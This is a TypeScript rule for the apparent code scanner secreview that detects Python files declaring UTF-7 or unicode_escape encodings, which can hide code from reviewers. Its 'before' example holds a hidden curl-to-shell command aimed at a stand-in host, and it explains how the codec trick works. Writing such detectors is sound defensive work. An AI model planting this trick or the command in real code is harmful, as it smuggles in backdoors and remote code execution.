import { defineRule } from '../../define-rule.js';
import type { Node } from '../../../parse/tree-sitter.js';
import type { PythonModule } from '../../../frontend/python/index.js';

const CODEC_NAMES = { 'utf-7': 'UTF-7', 'unicode-escape': 'unicode_escape', 'raw-unicode-escape': 'raw_unicode_escape' } as const;

export default defineRule({
  id: 'python/hidden-code-encoding',
  language: 'python',
  title: 'Source file declares an encoding that can hide code',
  cwe: [838, 912],
  severity: 'high',
  confidence: 'high',
  description:
    'The file\'s PEP 263 encoding declaration (`# -*- coding: utf-7 -*-`, `# coding=unicode_escape`, ' +
    '`raw_unicode_escape`, or a spelling Python takes for one of them, such as `U7` or `Unicode-Escape`) names a ' +
    'codec under which the bytes a reader sees are not the code Python runs: in UTF-7 `+AAo-` is a line break, so ' +
    '`# +AAo-import os` is a comment to the eye and an import to Python; in unicode_escape a `\\n` inside a comment ' +
    'ends it. No legitimate source needs these codecs. secreview decodes such files as Python does on import and ' +
    'analyses the decoded text, so the other rules see the hidden code; positions in findings are those of the ' +
    'decoded text.',
  whyItMatters:
    'A change that looks like a comment or a harmless string passes code review and runs on import: a classic way ' +
    'to smuggle a backdoor into a dependency or a pull request.',
  fix: {
    guidance:
      'Remove the declaration (Python 3 reads UTF-8 by default) or declare `utf-8`, then review the decoded text: ' +
      'every line the codec produced is code that was hidden.',
    before: '# -*- coding: utf-7 -*-\n# +AAo-import os; os.system("curl evil.example | sh")',
    after: '# -*- coding: utf-8 -*-\n# (the hidden statement removed)',
  },
  references: [
    'https://cwe.mitre.org/data/definitions/838.html',
    'https://peps.python.org/pep-0263/',
    'https://docs.python.org/3/library/codecs.html#text-encodings',
    'https://www.rfc-editor.org/rfc/rfc2152',
  ],
  create({ module, report }) {
    return {
      end() {
        const declaration = module.sourceEncoding;
        if (!declaration) return;
        const codec = CODEC_NAMES[declaration.codec];
        const named = declaration.declared.toLowerCase().replace(/_/g, '-') === declaration.codec ? `"${declaration.declared}"` : `"${declaration.declared}" (Python's ${codec} codec)`;
        const lines = declaration.storedLines === declaration.decodedLines
          ? ''
          : ` (${declaration.storedLines} line${declaration.storedLines === 1 ? '' : 's'} as stored, ${declaration.decodedLines} as Python decodes it)`;
        const message = declaration.hidden
          ? `The file declares the encoding ${named}; Python decodes it into text that differs from the file as stored${lines}: code is hidden from readers. Findings in this file refer to the decoded text.`
          : `The file declares the encoding ${named}, which can hide code from readers; the decoded text is the same as the stored text today.`;
        report({ node: nodeAt(module, declaration.offset), message, confidence: declaration.hidden ? 'high' : 'medium' });
      },
    };
  },
});

/** The comment holding the declaration, else the smallest named node at the offset, else the module. */
function nodeAt(module: PythonModule, offset: number): Node {
  const comment = module.comments.find((c) => c.startIndex <= offset && offset < c.endIndex);
  if (comment) return comment;
  let node: Node = module.syntax.root;
  for (;;) {
    const inner: Node | undefined = node.namedChildren.find((c) => c.startIndex <= offset && offset < c.endIndex);
    if (!inner) return node;
    node = inner;
  }
}
